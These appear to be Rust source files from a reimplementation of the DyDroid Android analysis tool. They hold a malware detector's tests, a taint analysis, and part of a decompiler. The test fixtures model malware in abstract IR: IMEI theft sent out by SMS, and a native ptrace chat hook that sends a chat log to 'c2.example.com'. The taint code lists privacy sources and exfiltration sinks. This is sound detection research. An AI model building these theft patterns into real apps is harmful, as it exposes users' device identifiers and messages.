        let c = b.class(format!("{pkg}.Payload"), "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(1);
        m.const_int(2, konst);
        let end = m.label();
        m.if_zero(CmpKind::Eq, 2, end);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.SmsManager",
                "sendTextMessage",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![1, 1],
        );
        m.bind(end);
        m.ret_void();
        b.build()
    }

    fn benign_dex() -> DexFile {
        let mut b = DexBuilder::new();
        let c = b.class("com.app.Ui", "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_str(1, "hello");
        m.invoke_static(
            MethodRef::new("android.util.Log", "d", "(Ljava/lang/String;)I"),
            vec![1],
        );
        m.ret_void();
        b.build()
    }

    fn ptrace_lib(target: &str) -> NativeLibrary {
        // Root check → branch → ptrace/hook/exfiltrate: the control-flow
        // shape is what the ACFG keys on; the target string varies.
        let code = vec![
            NativeInsn::Syscall {
                name: "setuid".to_string(),
                arg: None,
            },
            NativeInsn::Branch {
                cond: dydroid_dex::NativeCond::Zero,
                reg: 0,
                target: 6,
            },
            NativeInsn::Syscall {
                name: "ptrace".to_string(),
                arg: Some(target.to_string()),
            },
            NativeInsn::Syscall {
                name: "hook".to_string(),
                arg: Some("chat".to_string()),
            },
            NativeInsn::Syscall {
                name: "send".to_string(),
                arg: Some("c2.example.com:chatlog".to_string()),
            },
            NativeInsn::Ret,
            NativeInsn::Ret,
        ];
        NativeLibrary::new("libhook.so", Arch::Arm)
            .with_function(NativeFunction::exported("JNI_OnLoad", code))
    }

    #[test]
    fn acfg_block_structure() {
        let dex = mal_dex("com.m", 1);
        let funcs = crate::mail::translate_dex(&dex);
        let acfg = Acfg::build(&funcs[0]);
        // Blocks: [entry..ifz], [sms call], [ret]
        assert_eq!(acfg.len(), 3);
        assert!(!acfg.is_empty());
        // Entry block branches two ways.
        assert_eq!(acfg.blocks[0].out_degree, 2);
    }

    #[test]
    fn variant_detected_exact_structure() {
        let mut d = MalwareDetector::new();
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        // Variant: different package name and constant.
        let variant = CodeBinary::Dex(mal_dex("com.other.pkg", 777));
        let m = d.detect(&variant).expect("variant must match");
        assert_eq!(m.family, "swiss_sms");
        assert!(m.score >= 0.99, "score {}", m.score);
    }

    #[test]
    fn benign_not_flagged() {
        let mut d = MalwareDetector::new();
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        assert!(d.detect(&CodeBinary::Dex(benign_dex())).is_none());
    }

    #[test]
    fn native_family_detected_across_variants() {
        let mut d = MalwareDetector::new();
        d.train(
            "chathook_ptrace",
            &[CodeBinary::Native(ptrace_lib("com.tencent.mobileqq"))],
        );
        let variant = CodeBinary::Native(ptrace_lib("com.tencent.mm"));
        assert!(d.detect(&variant).is_some());
    }

    #[test]
    fn threshold_sweep_changes_sensitivity() {
        // A test sample embedding the malicious function plus benign code:
        // strict containment still matches; an impossible threshold never
        // does.
        let mut strict = MalwareDetector::with_threshold(0.9);
        let mut lax = MalwareDetector::with_threshold(0.5);
        let training = CodeBinary::Dex(mal_dex("com.m", 1));
        strict.train("fam", std::slice::from_ref(&training));
        lax.train("fam", std::slice::from_ref(&training));

        // Build a partial variant: same source call, but no SMS block.
        let mut b = DexBuilder::new();
        let c = b.class("com.p.Partial", "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(1);
        m.ret_void();
        let partial = CodeBinary::Dex(b.build());

        assert!(strict.detect(&partial).is_none(), "90% must reject partial");
        // At 50% the shared source block may or may not match depending on
        // block shapes; the full variant always matches both.
        let full = CodeBinary::Dex(mal_dex("com.q", 5));
        assert!(strict.detect(&full).is_some());
        assert!(lax.detect(&full).is_some());
    }

    #[test]
    fn empty_training_sample_ignored() {
        let mut d = MalwareDetector::new();
        d.train("empty", &[CodeBinary::Dex(DexFile::new())]);
        assert_eq!(d.sample_count(), 0);
        assert!(d.detect(&CodeBinary::Dex(benign_dex())).is_none());
    }

    #[test]
    fn match_fraction_bounds() {
        let a = BlockSig {
            pattern: 1,
            out_degree: 1,
        };
        let b = BlockSig {
            pattern: 2,
            out_degree: 1,
        };
        assert_eq!(match_fraction(&[], &[a]), 0.0);
        assert_eq!(match_fraction(&[a], &[a]), 1.0);
        assert_eq!(match_fraction(&[a, b], &[a]), 0.5);
        // Multiset semantics: one test block can't match two training blocks.
        assert_eq!(match_fraction(&[a, a], &[a]), 0.5);
    }

    #[test]
    fn verdict_returns_reusable_signature() {
        let mut d = MalwareDetector::new();
        d.train("swiss_sms", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        let variant = CodeBinary::Dex(mal_dex("com.other", 9));
        let (sig, hit) = d.verdict(&variant);
        assert!(sig.block_count() > 0);
        assert_eq!(hit, d.detect_sig(&sig), "signature reuse matches detect");
        assert_eq!(hit, d.detect(&variant));
    }

    #[test]
    fn best_family_wins() {
        let mut d = MalwareDetector::new();
        d.train("exact", &[CodeBinary::Dex(mal_dex("com.m", 1))]);
        d.train(
            "native_fam",
            &[CodeBinary::Native(ptrace_lib("com.tencent.mm"))],
        );
        let m = d.detect(&CodeBinary::Dex(mal_dex("x.y", 3))).unwrap();
        assert_eq!(m.family, "exact");
    }
}
