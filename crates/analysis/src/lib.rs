//! # dydroid-analysis
//!
//! The static-analysis half of DyDroid:
//!
//! - [`decompiler`] — the baksmali/apktool equivalent: unpack an APK into
//!   smali IR, with the realistic failure modes (anti-decompilation,
//!   anti-repackaging) that Table II's failure rows measure, plus the
//!   permission-injecting rewriter;
//! - [`filter`] — the static pre-filter for DCL-related code;
//! - [`obfuscation`] — detectors for the five hardening techniques of
//!   Table VI, including the three-rule DEX-encryption pattern;
//! - [`entity`] — own vs. third-party attribution from call-site classes;
//! - [`taint`] — a FlowDroid-like data-flow analysis over intercepted DEX
//!   code with the paper's modified entry-point rule (Table X);
//! - [`mail`] + [`acfg`] — a DroidNative-like malware detector: translate
//!   DEX *and* native code to a MAIL-like IR, build annotated control-flow
//!   graphs, and subgraph-match against trained family signatures
//!   (Table VII);
//! - [`vuln`] — the code-injection vulnerability classifier (Table IX).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod acfg;
pub mod decompiler;
pub mod entity;
pub mod filter;
pub mod mail;
pub mod obfuscation;
pub mod taint;
pub mod vuln;
pub mod wordlist;

pub use acfg::{Acfg, BinarySig, BlockSig, DetectorStats, FamilyMatch, MalwareDetector};
pub use decompiler::{DecompileError, DecompiledApp};
pub use entity::Entity;
pub use filter::DclFilter;
pub use obfuscation::{ObfuscationReport, Technique};
pub use taint::{Leak, PrivacyCategory, PrivacyType, TaintAnalysis};
pub use vuln::VulnKind;
