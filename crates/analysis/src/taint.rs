//! FlowDroid-like static taint analysis over intercepted DEX code
//! (Section III-C-b, Table X).
//!
//! Differences from stock FlowDroid mirror the paper's modifications:
//! there is no manifest or layout available for the loaded code, so
//! *every public method is an entry point*; the analysis is context- and
//! flow-insensitive but field-sensitive at the `(class, field)` level and
//! interprocedural through call summaries iterated to a fixpoint.
//!
//! Sources are the 18 privacy types in 5 categories; sinks follow the
//! SuSi catalogue (logging, network output, SMS, file output).

use std::collections::HashMap;

use dydroid_dex::{DexFile, Instruction, Method};
use serde::{Deserialize, Serialize};

/// The five privacy categories of Table X.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum PrivacyCategory {
    /// Real-time location (L).
    Location,
    /// Smartphone identifiers (PI).
    PhoneIdentity,
    /// User identifiers (UI).
    UserIdentity,
    /// Installed apps/packages (UP).
    UsagePattern,
    /// Default content providers (CP).
    ContentProvider,
}

/// The 18 privacy data types of Table X.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum PrivacyType {
    /// GPS / network location.
    Location,
    /// IMEI.
    Imei,
    /// IMSI.
    Imsi,
    /// ICCID (SIM serial).
    Iccid,
    /// Phone number.
    PhoneNumber,
    /// Device accounts.
    Account,
    /// Installed applications.
    InstalledApplications,
    /// Installed packages.
    InstalledPackages,
    /// Contacts provider.
    Contact,
    /// Calendar provider.
    Calendar,
    /// Call log provider.
    CallLog,
    /// Browser history & bookmarks.
    Browser,
    /// Audio media store.
    Audio,
    /// Image media store.
    Image,
    /// Video media store.
    Video,
    /// System settings.
    Settings,
    /// MMS store.
    Mms,
    /// SMS store.
    Sms,
}

impl PrivacyType {
    /// All 18 types, in Table X order.
    pub const ALL: [PrivacyType; 18] = [
        PrivacyType::Location,
        PrivacyType::Imei,
        PrivacyType::Imsi,
        PrivacyType::Iccid,
        PrivacyType::PhoneNumber,
        PrivacyType::Account,
        PrivacyType::InstalledApplications,
        PrivacyType::InstalledPackages,
        PrivacyType::Contact,
        PrivacyType::Calendar,
        PrivacyType::CallLog,
        PrivacyType::Browser,
        PrivacyType::Audio,
        PrivacyType::Image,
        PrivacyType::Video,
        PrivacyType::Settings,
        PrivacyType::Mms,
        PrivacyType::Sms,
    ];

    /// The category this type belongs to.
    pub fn category(self) -> PrivacyCategory {
        use PrivacyType as P;
        match self {
            P::Location => PrivacyCategory::Location,
            P::Imei | P::Imsi | P::Iccid => PrivacyCategory::PhoneIdentity,
            P::PhoneNumber | P::Account => PrivacyCategory::UserIdentity,
            P::InstalledApplications | P::InstalledPackages => PrivacyCategory::UsagePattern,
            _ => PrivacyCategory::ContentProvider,
        }
    }

    /// Human-readable name as printed in Table X.
    pub fn label(self) -> &'static str {
        use PrivacyType as P;
        match self {
            P::Location => "Location",
            P::Imei => "IMEI",
            P::Imsi => "IMSI",
            P::Iccid => "ICCID",
            P::PhoneNumber => "Phone number",
            P::Account => "Account",
            P::InstalledApplications => "Installed applications",
            P::InstalledPackages => "Installed packages",
            P::Contact => "Contact",
            P::Calendar => "Calendar",
            P::CallLog => "CallLog",
            P::Browser => "Browser",
            P::Audio => "Audio",
            P::Image => "Image",
            P::Video => "Video",
            P::Settings => "Settings",
            P::Mms => "MMS",
            P::Sms => "SMS",
        }
    }

    fn bit(self) -> u32 {
        1 << (Self::ALL.iter().position(|t| *t == self).expect("in ALL") as u32)
    }

    fn from_mask(mask: u32) -> Vec<PrivacyType> {
        Self::ALL
            .iter()
            .copied()
            .filter(|t| mask & t.bit() != 0)
            .collect()
    }
}

/// Maps an API `(class, method)` to the privacy type it sources.
pub fn api_source(class: &str, method: &str) -> Option<PrivacyType> {
    Some(match (class, method) {
        ("android.telephony.TelephonyManager", "getDeviceId") => PrivacyType::Imei,
        ("android.telephony.TelephonyManager", "getSubscriberId") => PrivacyType::Imsi,
        ("android.telephony.TelephonyManager", "getSimSerialNumber") => PrivacyType::Iccid,
        ("android.telephony.TelephonyManager", "getLine1Number") => PrivacyType::PhoneNumber,
        ("android.location.LocationManager", "getLastKnownLocation") => PrivacyType::Location,
        ("android.accounts.AccountManager", "getAccounts") => PrivacyType::Account,
        ("android.content.pm.PackageManager", "getInstalledApplications") => {
            PrivacyType::InstalledApplications
        }
        ("android.content.pm.PackageManager", "getInstalledPackages") => {
            PrivacyType::InstalledPackages
        }
        ("android.provider.Settings", "getString") => PrivacyType::Settings,
        _ => return None,
    })
}

/// Maps a content-provider URI to the privacy type it exposes.
pub fn uri_source(uri: &str) -> Option<PrivacyType> {
    let table = [
        ("content://contacts", PrivacyType::Contact),
        ("content://com.android.calendar", PrivacyType::Calendar),
        ("content://call_log", PrivacyType::CallLog),
        ("content://browser", PrivacyType::Browser),
        ("content://media/audio", PrivacyType::Audio),
        ("content://media/images", PrivacyType::Image),
        ("content://media/video", PrivacyType::Video),
        ("content://settings", PrivacyType::Settings),
        ("content://mms", PrivacyType::Mms),
        ("content://sms", PrivacyType::Sms),
    ];
    table
        .iter()
        .find(|(prefix, _)| uri.starts_with(prefix))
        .map(|(_, t)| *t)
}

/// Whether an API `(class, method)` is a sink (SuSi-style list).
pub fn is_sink(class: &str, method: &str) -> bool {
    matches!(
        (class, method),
        ("android.util.Log", _)
            | (
                "java.io.OutputStream" | "java.io.FileOutputStream",
                "write" | "writeString"
            )
            | (
                "android.telephony.SmsManager",
                "sendTextMessage" | "sendDataMessage"
            )
            | ("org.apache.http.HttpClient", "execute")
            | ("java.io.Writer", "write")
    )
}

/// A detected source→sink flow.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Leak {
    /// The leaked privacy type.
    pub privacy: PrivacyType,
    /// The sink API (`class.method`).
    pub sink: String,
    /// Class containing the leaking call.
    pub class: String,
    /// Method containing the leaking call.
    pub method: String,
}

#[derive(Default, Clone)]
struct MethodSummary {
    param_taint: Vec<u32>,
    ret_taint: u32,
}

/// The taint analysis engine. Holds per-run state; use [`TaintAnalysis::run`].
#[derive(Debug, Default)]
pub struct TaintAnalysis {
    max_passes: usize,
}

impl TaintAnalysis {
    /// Creates an engine with the default fixpoint bound.
    pub fn new() -> Self {
        TaintAnalysis { max_passes: 10 }
    }

    /// Runs the analysis over a DEX file, returning all detected leaks
    /// (deduplicated).
    pub fn run(&self, dex: &DexFile) -> Vec<Leak> {
        let mut summaries: HashMap<String, MethodSummary> = HashMap::new();
        let mut field_taint: HashMap<(String, String), u32> = HashMap::new();
        let mut leaks: Vec<Leak> = Vec::new();

        let methods: Vec<(&str, &Method)> =
            dex.methods().map(|(c, m)| (c.name.as_str(), m)).collect();

        for pass in 0..self.max_passes.max(1) {
            let mut changed = false;
            for (class, method) in &methods {
                let key = method_key(class, &method.name);
                let in_params = summaries
                    .get(&key)
                    .map(|s| s.param_taint.clone())
                    .unwrap_or_default();
                let outcome =
                    analyze_method(class, method, &in_params, &summaries, &mut field_taint);
                // Merge return taint.
                let entry = summaries.entry(key).or_default();
                if entry.ret_taint | outcome.ret_taint != entry.ret_taint {
                    entry.ret_taint |= outcome.ret_taint;
                    changed = true;
                }
                // Merge call-site argument taints into callee summaries.
                for (callee, arg_taints) in outcome.calls {
                    let entry = summaries.entry(callee).or_default();
                    if entry.param_taint.len() < arg_taints.len() {
                        entry.param_taint.resize(arg_taints.len(), 0);
                    }
                    for (i, t) in arg_taints.iter().enumerate() {
                        if entry.param_taint[i] | t != entry.param_taint[i] {
                            entry.param_taint[i] |= t;
                            changed = true;
                        }
                    }
                }
                for leak in outcome.leaks {
                    if !leaks.contains(&leak) {
                        leaks.push(leak);
                        changed = true;
                    }
                }
                if outcome.fields_changed {
                    changed = true;
                }
            }
            if !changed && pass > 0 {
                break;
            }
        }
        leaks
    }

    /// Convenience: the distinct privacy types leaked anywhere in the DEX.
    pub fn leaked_types(&self, dex: &DexFile) -> Vec<PrivacyType> {
        let mut types: Vec<PrivacyType> = self.run(dex).into_iter().map(|l| l.privacy).collect();
        types.sort();
        types.dedup();
        types
    }
}

fn method_key(class: &str, method: &str) -> String {
    format!("{class}->{method}")
}

struct MethodOutcome {
    ret_taint: u32,
    leaks: Vec<Leak>,
    calls: Vec<(String, Vec<u32>)>,
    fields_changed: bool,
}

fn analyze_method(
    class: &str,
    method: &Method,
    param_taint: &[u32],
    summaries: &HashMap<String, MethodSummary>,
    field_taint: &mut HashMap<(String, String), u32>,
) -> MethodOutcome {
    let mut regs: Vec<u32> = vec![0; method.registers as usize];
    let mut const_strs: Vec<Option<String>> = vec![None; method.registers as usize];
    for (i, t) in param_taint.iter().enumerate() {
        if i < regs.len() {
            regs[i] = *t;
        }
    }
    let mut ret_taint = 0u32;
    let mut leaks = Vec::new();
    let mut calls: Vec<(String, Vec<u32>)> = Vec::new();
    let mut fields_changed = false;
    let mut last_result = 0u32;

    // Two linear passes approximate loop-carried taint within the method;
    // the outer fixpoint covers the rest.
    for _ in 0..2 {
        for insn in &method.code {
            match insn {
                Instruction::Const { dst, .. } => {
                    regs[*dst as usize] = 0;
                    const_strs[*dst as usize] = None;
                }
                Instruction::ConstString { dst, value } => {
                    regs[*dst as usize] = 0;
                    const_strs[*dst as usize] = Some(value.clone());
                }
                Instruction::ConstNull { dst } => {
                    regs[*dst as usize] = 0;
                    const_strs[*dst as usize] = None;
                }
                Instruction::Move { dst, src } => {
                    regs[*dst as usize] = regs[*src as usize];
                    const_strs[*dst as usize] = const_strs[*src as usize].clone();
                }
                Instruction::MoveResult { dst } => {
                    regs[*dst as usize] = last_result;
                    const_strs[*dst as usize] = None;
                }
                Instruction::BinOp { dst, a, b, .. } => {
                    regs[*dst as usize] = regs[*a as usize] | regs[*b as usize];
                }
                Instruction::IGet { dst, field, .. } | Instruction::SGet { dst, field } => {
                    regs[*dst as usize] = field_taint
                        .get(&(field.class.clone(), field.name.clone()))
                        .copied()
                        .unwrap_or(0);
                }
                Instruction::IPut { src, field, .. } | Instruction::SPut { src, field } => {
                    let t = regs[*src as usize];
                    if t != 0 {
                        let entry = field_taint
                            .entry((field.class.clone(), field.name.clone()))
                            .or_insert(0);
                        if *entry | t != *entry {
                            *entry |= t;
                            fields_changed = true;
                        }
                    }
                }
                Instruction::Invoke {
                    method: mref, args, ..
                } => {
                    let arg_taints: Vec<u32> = args.iter().map(|r| regs[*r as usize]).collect();
                    let any_taint: u32 = arg_taints.iter().fold(0, |a, b| a | b);

                    // Sinks: any tainted argument leaks.
                    if is_sink(&mref.class, &mref.name) && any_taint != 0 {
                        for privacy in PrivacyType::from_mask(any_taint) {
                            let leak = Leak {
                                privacy,
                                sink: format!("{}.{}", mref.class, mref.name),
                                class: class.to_string(),
                                method: method.name.clone(),
                            };
                            if !leaks.contains(&leak) {
                                leaks.push(leak);
                            }
                        }
                    }

                    // Sources: API-based...
                    if let Some(t) = api_source(&mref.class, &mref.name) {
                        last_result = t.bit();
                    } else if mref.class == "android.content.ContentResolver"
                        && mref.name == "query"
                    {
                        // ...and URI-based (the URI is a const string arg).
                        let uri_taint = args
                            .iter()
                            .filter_map(|r| const_strs[*r as usize].as_deref())
                            .find_map(uri_source)
                            .map(PrivacyType::bit)
                            .unwrap_or(0);
                        last_result = uri_taint;
                    } else if crate::filter::NATIVE_LOAD_APIS
                        .iter()
                        .any(|(c, _)| mref.class == *c)
                        || mref.class.starts_with("java.")
                        || mref.class.starts_with("android.")
                        || mref.class.starts_with("dalvik.")
                    {
                        // Framework call: taint flows through (e.g.
                        // String.concat of a tainted value stays tainted).
                        last_result = any_taint;
                    } else {
                        // App-internal call: record for the summary pass
                        // and use the callee's known return taint.
                        let key = method_key(&mref.class, &mref.name);
                        last_result = summaries.get(&key).map(|s| s.ret_taint).unwrap_or(0);
                        calls.push((key, arg_taints));
                    }
                }
                Instruction::Return { reg } => {
                    ret_taint |= regs[*reg as usize];
                }
                _ => {}
            }
        }
    }

    MethodOutcome {
        ret_taint,
        leaks,
        calls,
        fields_changed,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, FieldRef, MethodRef};

    fn imei_call(m: &mut dydroid_dex::builder::MethodBuilder, dst: u16) {
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(dst);
    }

    fn log_sink(m: &mut dydroid_dex::builder::MethodBuilder, reg: u16) {
        m.const_str(7, "tag");
        m.invoke_static(
            MethodRef::new(
                "android.util.Log",
                "d",
                "(Ljava/lang/String;Ljava/lang/String;)I",
            ),
            vec![7, reg],
        );
    }

    #[test]
    fn direct_source_to_sink() {
        let mut b = DexBuilder::new();
        let c = b.class("com.sdk.Track", "java.lang.Object");
        let m = c.method("report", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        imei_call(m, 1);
        log_sink(m, 1);
        m.ret_void();
        let leaks = TaintAnalysis::new().run(&b.build());
        assert_eq!(leaks.len(), 1);
        assert_eq!(leaks[0].privacy, PrivacyType::Imei);
        assert_eq!(leaks[0].sink, "android.util.Log.d");
        assert_eq!(leaks[0].class, "com.sdk.Track");
    }

    #[test]
    fn no_leak_without_sink() {
        let mut b = DexBuilder::new();
        let c = b.class("com.sdk.Quiet", "java.lang.Object");
        let m = c.method("peek", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        imei_call(m, 1);
        m.ret_void();
        assert!(TaintAnalysis::new().run(&b.build()).is_empty());
    }

    #[test]
    fn untainted_sink_is_clean() {
        let mut b = DexBuilder::new();
        let c = b.class("com.sdk.Clean", "java.lang.Object");
        let m = c.method("log", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.const_str(1, "benign");
        log_sink(m, 1);
        m.ret_void();
        assert!(TaintAnalysis::new().run(&b.build()).is_empty());
    }

    #[test]
    fn taint_through_framework_string_ops() {
        let mut b = DexBuilder::new();
        let c = b.class("com.sdk.Concat", "java.lang.Object");
        let m = c.method("report", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        imei_call(m, 1);
        m.const_str(2, "imei=");
        m.invoke_virtual(
            MethodRef::new(
                "java.lang.String",
                "concat",
                "(Ljava/lang/String;)Ljava/lang/String;",
            ),
            vec![2, 1],
        );
        m.move_result(3);
        log_sink(m, 3);
        m.ret_void();
        let leaks = TaintAnalysis::new().run(&b.build());
        assert_eq!(leaks.len(), 1);
    }

    #[test]
    fn taint_through_fields() {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.sdk.Store", "java.lang.Object");
            let m = c.method("collect", "()V", AccessFlags::PUBLIC);
            m.registers(8);
            imei_call(m, 1);
            m.sput(1, FieldRef::new("com.sdk.G", "stash", "Ljava/lang/String;"));
            m.ret_void();
            let m = c.method("flush", "()V", AccessFlags::PUBLIC);
            m.registers(8);
            m.sget(1, FieldRef::new("com.sdk.G", "stash", "Ljava/lang/String;"));
            log_sink(m, 1);
            m.ret_void();
        }
        let leaks = TaintAnalysis::new().run(&b.build());
        assert_eq!(leaks.len(), 1);
        assert_eq!(leaks[0].method, "flush");
    }

    #[test]
    fn taint_interprocedural_through_params() {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.sdk.A", "java.lang.Object");
            let m = c.method("collect", "()V", AccessFlags::PUBLIC);
            m.registers(8);
            imei_call(m, 1);
            m.invoke_static(
                MethodRef::new("com.sdk.B", "post", "(Ljava/lang/String;)V"),
                vec![1],
            );
            m.ret_void();
        }
        {
            let c = b.class("com.sdk.B", "java.lang.Object");
            let m = c.method(
                "post",
                "(Ljava/lang/String;)V",
                AccessFlags::PUBLIC | AccessFlags::STATIC,
            );
            m.registers(8);
            log_sink(m, 0); // param 0
            m.ret_void();
        }
        let leaks = TaintAnalysis::new().run(&b.build());
        assert_eq!(leaks.len(), 1);
        assert_eq!(leaks[0].class, "com.sdk.B");
    }

    #[test]
    fn taint_interprocedural_through_returns() {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.sdk.Src", "java.lang.Object");
            let m = c.method(
                "grab",
                "()Ljava/lang/String;",
                AccessFlags::PUBLIC | AccessFlags::STATIC,
            );
            m.registers(8);
            imei_call(m, 1);
            m.ret(1);
        }
        {
            let c = b.class("com.sdk.Use", "java.lang.Object");
            let m = c.method("send", "()V", AccessFlags::PUBLIC);
            m.registers(8);
            m.invoke_static(
                MethodRef::new("com.sdk.Src", "grab", "()Ljava/lang/String;"),
                vec![],
            );
            m.move_result(1);
            log_sink(m, 1);
            m.ret_void();
        }
        let leaks = TaintAnalysis::new().run(&b.build());
        assert_eq!(leaks.len(), 1, "{leaks:?}");
        assert_eq!(leaks[0].class, "com.sdk.Use");
    }

    #[test]
    fn content_provider_uri_sources() {
        for (uri, expected) in [
            ("content://contacts/people", PrivacyType::Contact),
            ("content://sms/inbox", PrivacyType::Sms),
            ("content://media/images/thumbs", PrivacyType::Image),
        ] {
            let mut b = DexBuilder::new();
            let c = b.class("com.sdk.Cp", "java.lang.Object");
            let m = c.method("dump", "()V", AccessFlags::PUBLIC);
            m.registers(8);
            m.const_str(1, uri);
            m.invoke_static(
                MethodRef::new(
                    "android.content.ContentResolver",
                    "query",
                    "(Ljava/lang/String;)Ljava/lang/String;",
                ),
                vec![1],
            );
            m.move_result(2);
            log_sink(m, 2);
            m.ret_void();
            let leaks = TaintAnalysis::new().run(&b.build());
            assert_eq!(leaks.len(), 1, "uri {uri}");
            assert_eq!(leaks[0].privacy, expected);
        }
    }

    #[test]
    fn unknown_uri_produces_no_taint() {
        let mut b = DexBuilder::new();
        let c = b.class("com.sdk.Cp", "java.lang.Object");
        let m = c.method("dump", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.const_str(1, "content://com.custom.provider/data");
        m.invoke_static(
            MethodRef::new(
                "android.content.ContentResolver",
                "query",
                "(Ljava/lang/String;)Ljava/lang/String;",
            ),
            vec![1],
        );
        m.move_result(2);
        log_sink(m, 2);
        m.ret_void();
        assert!(TaintAnalysis::new().run(&b.build()).is_empty());
    }

    #[test]
    fn multiple_types_tracked_independently() {
        let mut b = DexBuilder::new();
        let c = b.class("com.sdk.Multi", "java.lang.Object");
        let m = c.method("report", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        imei_call(m, 1);
        m.invoke_static(
            MethodRef::new(
                "android.location.LocationManager",
                "getLastKnownLocation",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(2);
        log_sink(m, 1);
        log_sink(m, 2);
        m.ret_void();
        let dex = b.build();
        let types = TaintAnalysis::new().leaked_types(&dex);
        assert_eq!(types, vec![PrivacyType::Location, PrivacyType::Imei]);
    }

    #[test]
    fn all_types_have_unique_bits_and_categories() {
        let mut seen = std::collections::HashSet::new();
        for t in PrivacyType::ALL {
            assert!(seen.insert(t.bit()));
            let _ = t.category();
            assert!(!t.label().is_empty());
        }
        assert_eq!(PrivacyType::ALL.len(), 18);
        // Category sizes per Table X: L=1, PI=3, UI=2, UP=2, CP=10.
        let count = |cat| {
            PrivacyType::ALL
                .iter()
                .filter(|t| t.category() == cat)
                .count()
        };
        assert_eq!(count(PrivacyCategory::Location), 1);
        assert_eq!(count(PrivacyCategory::PhoneIdentity), 3);
        assert_eq!(count(PrivacyCategory::UserIdentity), 2);
        assert_eq!(count(PrivacyCategory::UsagePattern), 2);
        assert_eq!(count(PrivacyCategory::ContentProvider), 10);
    }

    #[test]
    fn sms_sink_detected() {
        let mut b = DexBuilder::new();
        let c = b.class("com.mal.Exfil", "java.lang.Object");
        let m = c.method("steal", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        imei_call(m, 1);
        m.const_str(2, "+100200300");
        m.invoke_static(
            MethodRef::new(
                "android.telephony.SmsManager",
                "sendTextMessage",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![2, 1],
        );
        m.ret_void();
        let leaks = TaintAnalysis::new().run(&b.build());
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].sink.contains("SmsManager"));
    }
}
