//! The unpack/decompile/repackage front-end (baksmali + apktool stand-in).
//!
//! Mirrors the paper's implementation section: the APK is unpacked and
//! decompiled into smali IR; apps that need it are rewritten with
//! `WRITE_EXTERNAL_STORAGE` injected and repacked. Both steps have the
//! failure modes the measurement reports in Table II:
//!
//! - **anti-decompilation**: some apps exploit a known decompiler bug —
//!   modeled faithfully as a real pattern our decompiler refuses to
//!   handle: a method whose *first* instruction is a self-targeting
//!   `goto` (a valid-for-the-VM but degenerate loop header that breaks
//!   the decompiler's block-ordering assumption, as apktool's bug did);
//! - **anti-repackaging**: apps carrying a resource-table trap entry
//!   (`res/raw/.pack`) that crashes the rebuild step, as packers do to
//!   apktool.

use dydroid_dex::manifest::WRITE_EXTERNAL_STORAGE;
use dydroid_dex::{smali, Apk, ApkError, DexFile, Instruction, Manifest};

use std::fmt;

/// The resource-table entry packers plant to break repackaging.
pub const ANTI_REPACK_TRAP: &str = "res/raw/.pack";

/// Decompilation/repackaging errors.
#[derive(Debug, Clone, PartialEq)]
pub enum DecompileError {
    /// The archive or a mandatory entry failed to parse.
    Unpack(ApkError),
    /// The app triggers the decompiler's anti-decompilation bug.
    AntiDecompilation {
        /// Class containing the trigger pattern.
        class: String,
    },
    /// The rebuild step crashed (anti-repackaging).
    AntiRepackaging,
}

impl fmt::Display for DecompileError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecompileError::Unpack(e) => write!(f, "unpack failed: {e}"),
            DecompileError::AntiDecompilation { class } => {
                write!(
                    f,
                    "decompiler crashed on class {class} (anti-decompilation)"
                )
            }
            DecompileError::AntiRepackaging => write!(f, "repackaging crashed (anti-repackaging)"),
        }
    }
}

impl std::error::Error for DecompileError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            DecompileError::Unpack(e) => Some(e),
            _ => None,
        }
    }
}

impl From<ApkError> for DecompileError {
    fn from(e: ApkError) -> Self {
        DecompileError::Unpack(e)
    }
}

/// A successfully decompiled app: parsed manifest, parsed classes, and the
/// smali rendering the downstream detectors scan.
#[derive(Debug, Clone)]
pub struct DecompiledApp {
    /// Parsed manifest.
    pub manifest: Manifest,
    /// Parsed primary DEX.
    pub classes: DexFile,
    /// smali disassembly of `classes`.
    pub smali: String,
    /// The archive itself (assets/lib inspection).
    pub apk: Apk,
}

impl DecompiledApp {
    /// The application package name.
    pub fn package(&self) -> &str {
        &self.manifest.package
    }
}

/// Whether a DEX file contains the decompiler-killing pattern.
fn has_anti_decompilation_pattern(dex: &DexFile) -> Option<String> {
